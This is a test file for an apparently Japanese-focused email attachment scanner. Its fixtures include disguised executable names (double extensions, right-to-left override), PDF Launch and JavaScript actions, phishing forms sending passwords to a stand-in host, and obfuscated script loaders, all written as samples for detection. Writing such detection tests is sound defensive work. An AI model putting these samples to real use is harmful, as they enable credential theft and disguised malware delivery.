import assert from 'node:assert/strict';
import { test } from 'node:test';
import iconv from 'iconv-lite';
import { exe, flags, objectStream, office, one, pdf, pdfStream, zip } from './build.ts';

// ---------------------------------------------------------------- names and types

test('a program is a program whatever it is called and declared as', async () => {
  assert.deepEqual(flags(await one('setup.exe', exe())), ['executable']);
  assert.deepEqual(flags(await one('報告.pdf', exe(), 'application/pdf')), ['executable', 'type_mismatch']);
  assert.deepEqual(flags(await one('', exe(), 'image/png')), ['executable', 'type_mismatch']);
  assert.deepEqual(flags(await one('MZ.txt', 'MZ is how this text begins, and nothing else of it is a program.')), []);
});

test('names that hide their ending are told, ordinary names with two dots are not', async () => {
  for (const name of ['invoice.pdf.exe', '請求書.xlsx                                     .exe', 'photo.jpg.html', 'a.pdf.lnk', 'x.doc.js. ', 'invoice.pdf.exe ...']) {
    assert.ok((await one(name, exe())).flags.includes('double_extension'), name);
  }
  for (const name of ['report.2026.pdf', 'backup.tar.gz', '見積.pdf.zip', '2026.11.29.xlsx', 'v1.2.exe', 'index.min.js', 'a.b.html']) {
    assert.ok(!(await one(name, 'x')).flags.includes('double_extension'), name);
  }
});

test('a name turned right to left is told; one mark at its beginning, as Windows copies it, is not', async () => {
  assert.ok((await one('請求書\u202efdp.exe', exe())).flags.includes('rtlo'));
  assert.ok((await one('a\u2067gpj.scr', exe())).flags.includes('rtlo'));
  assert.ok(!(await one('\u202a報告.pdf', pdf())).flags.includes('rtlo'));
});

test('pictures under another picture\'s ending, exports called .xls and unknown bytes are no mismatch', async () => {
  assert.deepEqual(flags(await one('売上.xls', '<html><body><table><tr><td>1</td></tr></table></body></html>', 'application/vnd.ms-excel')), []);
  assert.deepEqual(flags(await one('data.csv', 'a,b\r\n1,2\r\n', 'text/csv')), []);
  assert.deepEqual(flags(await one('図面.jww', Buffer.from('4a77774461746100ff01', 'hex'))), []);
  assert.deepEqual(flags(await one('a.docx', pdf())), ['type_mismatch']);
});

test('attached mails are listed and left alone', async () => {
  const facts = await one('転送.eml', 'Received: from a\r\nMIME-Version: 1.0\r\nFrom: a@example.jp\r\nSubject: x\r\n\r\nhttps://in.example/', 'message/rfc822');
  assert.deepEqual([facts.realType, facts.flags, facts.links], ['eml', [], []]);
});

// ---------------------------------------------------------------- zip

test('names in a zip are read as UTF-8 and as what Windows in Japan writes', async () => {
  const facts = await one('a.zip', zip([{ name: '見積書.txt', utf8: true, data: 'a' }, { name: iconv.encode('表示テスト.txt', 'cp932'), data: 'a' }, { name: '素のUTF8.txt', data: 'a' }]));
  assert.deepEqual(facts.entries, ['見積書.txt', '表示テスト.txt', '素のUTF8.txt']);
  assert.deepEqual(flags(facts), ['archive']);
});

test('a zip behind a password shows its names and its lock, and no trouble: in Japan that is ordinary', async () => {
  for (const entry of [{ encrypted: true }, { method: 99 as const, extra: Buffer.from('019907000200414503080000'.slice(0, 22), 'hex') }]) {
    const facts = await one('見積.zip', zip([{ name: '見積書.xlsx', data: 'secret', ...entry }]));
    assert.deepEqual(flags(facts), ['archive', 'encrypted_archive']);
    assert.deepEqual(facts.entries, ['見積書.xlsx']);
    assert.deepEqual(facts.troubles, []);
  }
  assert.deepEqual(flags(await one('見積.zip', zip([{ name: '見積書.pdf.exe', data: 'x', encrypted: true }]))), ['archive', 'dangerous_inside', 'double_extension', 'encrypted_archive']);
});

test('what is dangerous inside a zip is found by name and by content', async () => {
  assert.deepEqual(flags(await one('a.zip', zip([{ name: 'readme.txt', data: 'hello' }, { name: 'photo.jpg', data: exe() }]))), ['archive', 'dangerous_inside', 'type_mismatch']);
  for (const name of ['a.js', 'a.lnk', 'a.iso', 'a.hta', 'a.html', 'a.one', 'a.vbs']) assert.ok((await one('a.zip', zip([{ name, data: 'x' }]))).flags.includes('dangerous_inside'), name);
  assert.deepEqual(flags(await one('写真.zip', zip([{ name: '写真/a.txt', data: 'x' }, { name: '写真/報告.docx', data: office() }, { name: '写真/b.pdf', data: pdf() }]))), ['archive']);
});

test('a zip in a zip is opened twice, and no further', async () => {
  const inner = zip([{ name: 'run.exe', data: exe() }]);
  const two = await one('a.zip', zip([{ name: 'b.zip', data: inner }]));
  assert.deepEqual(flags(two), ['archive', 'dangerous_inside', 'nested_archive']);
  assert.deepEqual(two.entries, ['b.zip', 'b.zip/run.exe']);
  let deep = zip([{ name: 'x.txt', data: 'x' }]);
  for (let i = 0; i < 20; i++) deep = zip([{ name: 'n.zip', data: deep }]);
  const facts = await one('a.zip', deep);
  assert.deepEqual(facts.troubles, ['too_deep']);
  assert.ok(facts.entries.length <= 4);
});

test('a zip without its directory, and one whose two names differ, still show what is in them', async () => {
  assert.deepEqual((await one('a.zip', zip([{ name: 'a.exe', data: exe() }, { name: 'b.txt', data: 'x' }], false))).entries, ['a.exe', 'b.txt']);
  assert.deepEqual((await one('a.zip', zip([{ name: 'safe.txt', localName: 'evil.exe', data: 'x' }]))).entries, ['safe.txt', 'evil.exe']);
});

// ---------------------------------------------------------------- PDF

test('an ordinary PDF gives its text and its links', async () => {
  const facts = await one('報告.pdf', pdf({ text: 'Quarterly figures', annotations: '<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://www.example.co.jp/a\\(1\\)) >> >>' }), 'application/pdf');
  assert.deepEqual([facts.realType, flags(facts)], ['pdf', ['pdf_link']]);
  assert.deepEqual(facts.links, ['https://www.example.co.jp/a(1)']);
  assert.match(facts.text, /Quarterly figures/);
  assert.deepEqual(flags(await one('a.pdf', pdf())), []);
});

test('scripts, program starts, forms and locks of a PDF are told apart, also with escaped names', async () => {
  assert.deepEqual(flags(await one('a.pdf', pdf({ catalog: '/OpenAction << /S /J#61vaScript /JS (app.alert\\(1\\)) >>' }))), ['pdf_javascript']);
  const launch = await one('a.pdf', pdf({ catalog: '/OpenAction << /S /Launch /Win << /F (cmd.exe) /P (/c start) >> >>' }));
  assert.deepEqual(flags(launch), ['pdf_launch']);
  assert.ok(launch.words.includes('cmd.exe'));
  assert.deepEqual(flags(await one('a.pdf', pdf({ catalog: '/AcroForm << /Fields [10 0 R] >>', objects: ['<< /FT /Tx /T (password) >>'] }))), ['pdf_form']);
  const locked = await one('a.pdf', pdf({ trailer: '/Encrypt 10 0 R', objects: ['<< /Filter /Standard /V 2 /R 3 >>'] }));
  assert.deepEqual([flags(locked), locked.troubles], [['pdf_encrypted'], []]);
});

test('actions and links inside object streams are found', async () => {
  const facts = await one('a.pdf', pdf({ objects: [objectStream(['<< /S /URI /URI (https://in.example/x) >>', '<< /S /JavaScript /JS (1) >>'])] }));
  assert.deepEqual(flags(facts), ['pdf_javascript', 'pdf_link']);
  assert.deepEqual(facts.links, ['https://in.example/x']);
});

test('a file carried in a PDF is listed and inspected', async () => {
  const facts = await one('a.pdf', pdf({ objects: ['<< /Type /Filespec /F (update.exe) /EF << /F 11 0 R >> >>', pdfStream('/Type /EmbeddedFile', exe(), true)] }));
  assert.deepEqual(flags(facts), ['dangerous_inside', 'embedded_object']);
  assert.deepEqual(facts.entries, ['update.exe']);
});

// ---------------------------------------------------------------- HTML and SVG

test('a page that asks for a password is told from an ordinary report in HTML', async () => {
  const bad = await one('明細.html', '<html><body><p>メールのパスワードを入力してください</p><form action="https://take.example/p.php" method=post><input type=email><input type=PASSWORD name=p></form>');
  assert.deepEqual(flags(bad), ['html_form']);
  assert.deepEqual(bad.links, ['https://take.example/p.php']);
  assert.match(bad.text, /パスワードを入力/);
  const good = await one('報告.html', '<!DOCTYPE html><html><head><title>月報</title><style>p{color:red}</style></head><body><h1>月報</h1><p>売上</p><a href="https://www.example.co.jp/">会社</a></body></html>');
  assert.deepEqual(flags(good), []);
  assert.equal(good.text, '月報\n月報\n売上\n会社');
});

test('a page packed into a script is unpacked: its form, its links, its script', async () => {
  const page = '<form action="https://take.example/"><input type=password></form>';
  for (const script of [
    `document.write(atob("${Buffer.from(page).toString('base64')}"))`,
    `document.write(unescape("${[...page].map((c) => `%${c.charCodeAt(0).toString(16)}`).join('')}"))`,
    `var a=[${[...page].map((c) => c.charCodeAt(0)).join(',')}];document.write(String.fromCharCode.apply(null,a));eval("1")`,
    `document["write"]("${[...page].map((c) => `\\x${c.charCodeAt(0).toString(16)}`).join('')}");eval(x);unescape(y)`,
  ]) {
    const facts = await one('a.htm', `<html><script>${script}</script>`);
    assert.ok(facts.flags.includes('html_form'), script.slice(0, 40));
    assert.ok(facts.flags.includes('html_obfuscated'), script.slice(0, 40));
    assert.deepEqual(facts.links, ['https://take.example/']);
  }
});

test('meta refresh, script redirects, data links and hidden frames are told', async () => {
  assert.deepEqual(flags(await one('a.html', '<meta http-equiv=refresh content="0; url=https://go.example/">')), ['html_redirect']);
  assert.deepEqual(flags(await one('a.html', '<html><script>window.location.href = "https://go.example/"</script>')), ['html_redirect', 'html_script']);
  const data = await one('a.html', `<html><a href="data:text/html;base64,${Buffer.from('<form><input type=password></form>').toString('base64')}">開く</a>`);
  assert.deepEqual(flags(data), ['html_form', 'html_obfuscated']);
  assert.ok((await one('a.html', '<html><iframe width=0 height=0 src="https://go.example/"></iframe>')).words.includes('hidden iframe'));
});

test('structured data and a counter script are no obfuscation', async () => {
  const facts = await one('a.html', '<!doctype html><html><script type="application/ld+json">{"@type":"Event"}</script><script>document.getElementById("n").textContent = String(items.length);</script><body>予定');
  assert.deepEqual(flags(facts), ['html_script']);
});

test('a drawing that runs script or leads away is told from a drawing', async () => {
  assert.deepEqual(flags(await one('a.svg', '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>location.href="https://go.example/"</script></svg>', 'image/svg+xml')), ['html_redirect', 'svg_script']);
  assert.deepEqual(flags(await one('a.svg', '<svg xmlns="http://www.w3.org/2000/svg" onload="run()"><circle r="3"/></svg>')), ['svg_script']);
  assert.deepEqual(flags(await one('logo.svg', '<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0h9"/><text>会社</text></svg>', 'image/svg+xml')), []);
});
